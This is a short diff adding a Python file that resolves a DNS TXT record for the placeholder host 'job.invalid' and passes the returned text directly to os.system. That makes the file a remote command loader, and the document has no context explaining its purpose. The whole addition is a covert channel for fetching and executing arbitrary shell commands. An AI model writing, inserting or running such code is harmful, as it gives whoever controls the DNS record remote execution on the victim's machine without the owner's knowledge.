@@ -1,0 +1,5 @@
+import os
+
+import dns.resolver
+
+os.system(str(dns.resolver.resolve("job.invalid", "TXT")[0]))
